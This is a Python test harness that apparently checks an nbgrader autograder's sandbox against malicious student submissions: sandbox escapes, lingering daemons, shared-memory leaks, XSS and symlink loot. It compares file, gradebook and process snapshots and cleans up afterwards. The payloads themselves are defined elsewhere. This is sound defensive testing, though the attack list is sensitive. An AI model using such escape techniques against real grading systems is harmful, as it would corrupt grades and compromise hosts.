def run_nbgrader(run: SealRun, *args: str, timeout: float = 1500) -> Command:
    """``nbgrader ARGS`` in the course, through the peak-memory wrapper, with a deadline
    (a stopped or hung nbgrader is killed - its whole process group - and reported)."""
    usage = run.course / f".rusage-{uuid.uuid4().hex[:8]}.json"
    env = child_environment()
    began = time.perf_counter()
    proc = subprocess.Popen([sys.executable, "-m", "autograder.memory", str(usage), "nbgrader",
                             *args], cwd=run.course, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, text=True,
                            errors="replace", start_new_session=True)
    timed_out = False
    try:
        out, _ = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        timed_out = True
        for sig in (signal.SIGCONT, signal.SIGKILL):
            try:
                os.killpg(proc.pid, sig)
            except ProcessLookupError:
                pass
        out, _ = proc.communicate()
    try:
        rusage = json.loads(usage.read_text())
        usage.unlink()
    except (OSError, ValueError):
        rusage = {}
    cmd = Command(args, proc.returncode, out or "", time.perf_counter() - began, timed_out,
                  rusage)
    run.commands.append(cmd)
    return cmd


# --------------------------------------------------------------------------- snapshots
def _sha(path: Path) -> str:
    digest = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(1 << 20), b""):
            digest.update(block)
    return digest.hexdigest()


def repository_snapshot() -> dict:
    """sha256 and mode of every repository file outside .venv, .git and __pycache__."""
    out = {}
    for folder, dirs, files in os.walk(ROOT):
        dirs[:] = [d for d in dirs if d not in (".venv", ".git", "__pycache__")]
        for name in files:
            path = Path(folder) / name
            try:
                st = path.lstat()
                out[str(path.relative_to(ROOT))] = (
                    _sha(path) if path.is_file() and not path.is_symlink() else
                    os.readlink(path) if path.is_symlink() else "", st.st_mode)
            except OSError:
                pass
    return out


def venv_snapshot() -> dict:
    """Every virtualenv file's path, size and mtime; sha256 of the startup hooks."""
    out = {}
    venv = Path(sys.prefix)
    for folder, dirs, files in os.walk(venv):
        dirs[:] = [d for d in dirs if d != "__pycache__"]
        for name in files:
            path = Path(folder) / name
            try:
                st = path.lstat()
            except OSError:
                continue
            entry = (st.st_size, st.st_mtime_ns)
            if name.endswith(".pth") or name in ("sitecustomize.py", "usercustomize.py"):
                entry += (_sha(path),)
            out[str(path.relative_to(venv))] = entry
    return out


def diff(before: dict, after: dict, mark: str = "", edited: frozenset = frozenset()) -> list[str]:
    """What changed; files planted by another batch of this session (another mark) are
    that batch's finding, not this one's. ``edited``: paths people changed meanwhile
    (see :func:`edited_by_people`), left out."""
    changed = [f"changed {k}" for k in before if k in after and before[k] != after[k]]
    out = (changed + [f"deleted {k}" for k in before if k not in after] +
           [f"new {k}" for k in after if k not in before])
    out = [d for d in out if d.split(" ", 1)[1] not in edited]
    return [d for d in out if MARK not in d or (mark and mark in d)]


def edited_by_people() -> frozenset:
    """With SEAL_ATTACKS_CONCURRENT_EDITS=1 (tests run in a working tree others are
    editing): the paths ``git status`` lists, which the repository comparison then
    skips. Off by default (CI): an attack that edits a tracked file is listed there
    too, so the skip would hide it."""
    if os.environ.get("SEAL_ATTACKS_CONCURRENT_EDITS") != "1":
        return frozenset()
    proc = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"],
                          cwd=ROOT, capture_output=True, text=True)
    return frozenset(line[3:].strip() for line in proc.stdout.splitlines()
                     if MARK not in line)


STATIC_TABLES = ("assignment", "notebook", "base_cell", "grade_cells", "solution_cells",
                 "source_cell", "task_cells", "course", "alembic_version")


def gradebook_dump(path: Path) -> dict:
    """Every table's rows (sorted), or {"error": ...} when the gradebook is unreadable."""
    try:
        db = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=30)
        try:
            tables = [r[0] for r in db.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
            return {t: sorted(map(repr, db.execute(f'SELECT * FROM "{t}"'))) for t in tables}
        finally:
            db.close()
    except sqlite3.Error as exc:
        return {"error": f"{type(exc).__name__}: {exc}"}


def marker_processes(mark: str) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if mark.encode() in cmdline:
            found.append(f"{pid}: {cmdline[:120]!r}")
    return found


def kill_marker_processes(mark: str) -> None:
    """Only processes whose argv carries this session's marker (the attacks' daemons and
    witnesses), and a witness's parent when it is a judge's student process (one left
    running after its judge gave up)."""
    pids = []
    for entry in marker_processes(mark):
        pid = int(entry.split(":")[0])
        pids.append(pid)
        try:
            parent = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
            if b"_grading_child" in Path(f"/proc/{parent}/cmdline").read_bytes():
                pids.append(parent)
        except (OSError, ValueError, IndexError):
            pass
    for pid in pids:
        for sig in (signal.SIGCONT, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass


def snapshot(run: SealRun) -> dict:
    gradebook = run.course / "gradebook.db"
    return {"repository": repository_snapshot(), "venv": venv_snapshot(),
            "edited": edited_by_people(),
            "gradebook": gradebook_dump(gradebook),
            "gradebook_sha": _sha(gradebook) if gradebook.exists() else None,
            "config_sha": _sha(run.course / "nbgrader_config.py"),
            "submitted": {str(p.relative_to(run.course)): _sha(p)
                          for p in (run.course / "submitted").rglob("*") if p.is_file()},
            "planted": [str(p) for p in planted_names(run.ctx)],
            "processes": marker_processes(run.ctx.mark)}


def clean_up(run: SealRun) -> list[str]:
    """Remove what the attacks left (only files carrying the marker, and daemons with
    it) and give repository files back modes nbgrader changed through a link."""
    kill_marker_processes(run.ctx.mark)
    removed = []
    for path in planted_names(run.ctx):
        try:
            if path.is_dir() and not path.is_symlink():
                import shutil
                shutil.rmtree(path)
            else:
                path.unlink()
            removed.append(str(path))
        except OSError:
            pass
    before = run.before.get("repository", {})
    for rel, (_, mode) in before.items():
        path = ROOT / rel
        try:
            if not path.is_symlink() and path.stat().st_mode != mode:
                os.chmod(path, mode & 0o7777)
                removed.append(f"restored mode of {rel}")
        except OSError:
            pass
    return removed


def _results(run: SealRun) -> dict:
    from tools import grading
    try:
        return grading.results(run.course, A)
    except Exception as exc:  # noqa: BLE001 - a corrupted gradebook is a finding
        run.notes["results_error"] = f"{type(exc).__name__}: {exc}"
        return {}


def _begin(key: str, course: Path, config: str = ATTACK_CONFIG) -> SealRun:
    mark = MARK + key.split(":")[1][:5]  # per batch: batches run side by side
    run = SealRun(key, Path(course), Ctx(mark, str(Path(course).resolve()),
                                          host_ns=Ctx.host_namespaces()))
    with open(run.course / "nbgrader_config.py", "a") as fh:
        fh.write(f"\n# seal attack batch {key}\n{config}")
    return run


def _submit(run: SealRun, notebooks: dict) -> None:
    from tools import grading
    for student, nb in notebooks.items():
        grading.submit(run.course, A, student, nb)
    run.before = snapshot(run)


def _finish(run: SealRun, began: float) -> SealRun:
    run.seconds = time.perf_counter() - began
    run.results = _results(run)
    run.after = snapshot(run)
    time.sleep(6)  # anything still alive gets the chance to act
    run.later = {"gradebook_sha": _sha(run.course / "gradebook.db")
                 if (run.course / "gradebook.db").exists() else None,
                 "gradebook": gradebook_dump(run.course / "gradebook.db"),
                 "processes": marker_processes(run.ctx.mark)}
    run.notes["cleaned"] = clean_up(run)
    return run


def attack_notebooks(ctx: Ctx, kernel: bool = True) -> dict:
    correct = submissions.correct(A)
    nbs = {HONEST_FIRST: correct,
           ESCAPE_SHELL: escape(ctx, SHELL_METHODS),
           ESCAPE_CTYPES: escape(ctx, CTYPES_METHODS),
           DAEMON_STUDENT: daemon_attack(ctx, DAEMON_STUDENT),
           SHM_WRITER: shm_writer(ctx),
           PAYS: grader_pays(),
           HUGE_LAYER_STUDENT: huge_layer(),
           XSS_STUDENT: xss(),
           SHM_READER: shm_reader(ctx),
           VICTIM: correct,
           HONEST_LAST: correct}
    return nbs


def nbgrader_batch(course: Path) -> SealRun:
    run = _begin(NBGRADER, course)
    _submit(run, attack_notebooks(run.ctx))
    began = time.perf_counter()
    # the honest first student alone: what nbgrader and its descendants need for one
    # honest notebook in this course, measured in the same run as the attacks
    run.notes["honest_rusage"] = run_nbgrader(
        run, "autograde", A, "--student", HONEST_FIRST).rusage
    run_nbgrader(run, "autograde", A, "--force",
                 f"--CourseDirectory.student_id_exclude={HONEST_FIRST}")
    run_nbgrader(run, "generate_feedback", A, "--force", timeout=600)
    return _finish(run, began)


def links_batch(course: Path) -> SealRun:
    run = _begin(LINKS, course)
    correct = submissions.correct(A)
    _submit(run, {**link_attacks(VICTIM), VICTIM: correct, HONEST_LAST: correct})
    began = time.perf_counter()
    # the loot attacker is graded and gets its feedback first (as in a course that
    # returns feedback as it goes); then everyone else
    run_nbgrader(run, "autograde", A, "--force", "--student", "l2_loot")
    run_nbgrader(run, "generate_feedback", A, "--force", "--student", "l2_loot", timeout=600)
    run.notes["loot_feedback"] = feedback_files(run.course / "feedback" / "l2_loot" / A)
    run_nbgrader(run, "autograde", A, "--force", "--CourseDirectory.student_id_exclude=l2_loot")
    run_nbgrader(run, "generate_feedback", A, "--force", timeout=600)
    return _finish(run, began)


def feedback_files(folder: Path) -> dict:
    """relative path -> text (or "<symlink to ...>") of every file in a feedback folder,
    kept as soon as it is written (a later failing command may remove the folder)."""
    out = {}
    for path in sorted(folder.rglob("*")) if folder.exists() else ():
        rel = str(path.relative_to(folder))
        if path.is_symlink():
            out[rel] = f"<symlink to {os.readlink(path)}>"
        elif path.is_file():
            out[rel] = path.read_text(errors="replace")
    return out


def classgrade_batch(course: Path) -> SealRun:
    """The attacks that apply without a kernel, through ``grade_class(mode="fast")``."""
    from autograder.classgrade.run import grade_class
    run = _begin(CLASSGRADE, course)
    _submit(run, attack_notebooks(run.ctx))
    began = time.perf_counter()
    try:
        summary = grade_class(run.course, [A], mode="fast", workers=1, progress=False)
        run.notes["records"] = summary.graded
    except BaseException as exc:  # noqa: BLE001 - recorded, asserted by the tests
        run.notes["error"] = f"{type(exc).__name__}: {exc}"
    return _finish(run, began)


def fake_bwrap(course: Path) -> Path:
    """A bwrap that fails as on a host without user namespaces."""
    path = Path(course) / "fake-bwrap"
    path.write_text(f"#!/bin/sh\necho '{NO_USERNS}' >&2\nexit 1\n")
    path.chmod(0o755)
    return path


def fail_closed_batch(course: Path) -> SealRun:
    bwrap = fake_bwrap(course)
    run = _begin(FAIL_CLOSED, course, ATTACK_CONFIG + f"c.GradingSeal.bwrap = {str(bwrap)!r}\n")
    _submit(run, {HONEST_LAST: submissions.correct(A)})
    began = time.perf_counter()
    run_nbgrader(run, "autograde", A, "--force", timeout=900)
    run.notes["nbgrader_results"] = _results(run)
    from autograder.classgrade.run import grade_class
    try:  # the class-grading command must refuse as well
        summary = grade_class(run.course, [A], mode="fast", workers=1, progress=False,
                              force=True)
        run.notes["records"] = summary.graded
    except BaseException as exc:  # noqa: BLE001
        run.notes["error"] = f"{type(exc).__name__}: {exc}"
    return _finish(run, began)


def unsealed_batch(course: Path) -> SealRun:
    bwrap = fake_bwrap(course)
    run = _begin(UNSEALED, course, ATTACK_CONFIG.replace(
        "allow_unsealed = False", "allow_unsealed = True") + f"c.GradingSeal.bwrap = {str(bwrap)!r}\n")
    _submit(run, {HONEST_LAST: submissions.correct(A)})  # honest only: nothing is sealed here
    began = time.perf_counter()
    run_nbgrader(run, "autograde", A, "--force", timeout=900)
    run_nbgrader(run, "generate_feedback", A, "--force", timeout=600)
    return _finish(run, began)


def timeouts_batch(course: Path) -> SealRun:
    run = _begin(TIMEOUTS, course, TIMEOUT_CONFIG)
    _submit(run, {LOOPS: loops_after(3, run.ctx.mark),
                  SLOW: slow_cells(TIMEOUT_LIMITS["sleep"], TIMEOUT_LIMITS["cells"])})
    began = time.perf_counter()
    for student in (LOOPS, SLOW):
        cmd = run_nbgrader(run, "autograde", A, "--force", "--student", student, timeout=900)
        run.notes[f"seconds:{student}"] = cmd.seconds
    return _finish(run, began)


BATCHES = {NBGRADER: nbgrader_batch, LINKS: links_batch, CLASSGRADE: classgrade_batch,
           FAIL_CLOSED: fail_closed_batch, UNSEALED: unsealed_batch, TIMEOUTS: timeouts_batch}


def memory_figures(run: SealRun) -> list[str]:
    """The batch's peak resident memory, for the run's summary: what the memory tests
    compare, in MiB, so a closing note can quote it and a drift shows before it fails."""
    lines = []
    honest = run.notes.get("honest_rusage") or {}
    graded = [c.rusage for c in run.commands if c.args[0] == "autograde" and c.rusage]
    if honest and graded:
        top = {k: max(r[k] for r in graded) / 1024 for k in ("self_kib", "children_kib")}
        lines.append(f"nbgrader autograde, own peak: {honest['self_kib'] / 1024:.0f} honest "
                     f"alone, {top['self_kib']:.0f} at most; its descendants: "
                     f"{honest['children_kib'] / 1024:.0f} and {top['children_kib']:.0f}")
    peaks = {r["student"]: r["worker"]["rss_mib"] for r in run.notes.get("records") or []
             if r.get("worker")}
    if HONEST_FIRST in peaks:
        lines.append(f"class-grading worker: {peaks[HONEST_FIRST]:.0f} after the honest "
                     f"first student, {max(peaks.values()):.0f} at most")
    return [f"{run.key}: {line}" for line in lines]


def grade(key: str, course: Path) -> SealRun:
    run = BATCHES[key](course)
    if os.environ.get("SEAL_ATTACKS_REPORT"):  # a summary line per batch, for the record
        with open(os.environ["SEAL_ATTACKS_REPORT"], "a") as fh:
            fh.write(json.dumps({
                "key": key, "seconds": round(run.seconds, 1), "course": str(run.course),
                "commands": [{"args": c.args, "rc": c.returncode, "seconds": round(c.seconds, 1),
                              "timed_out": c.timed_out, "rusage": c.rusage} for c in run.commands],
                "scores": {s: g.scores for s, g in run.results.items()},
                "planted": run.after.get("planted"), "processes": run.after.get("processes"),
                "notes": {k: v for k, v in run.notes.items() if k != "records"},
                "workers": [(r["student"], r["status"], r["worker"]["rss_mib"], r.get("error"))
                            for r in run.notes.get("records", [])]}, default=str) + "\n")
    return run
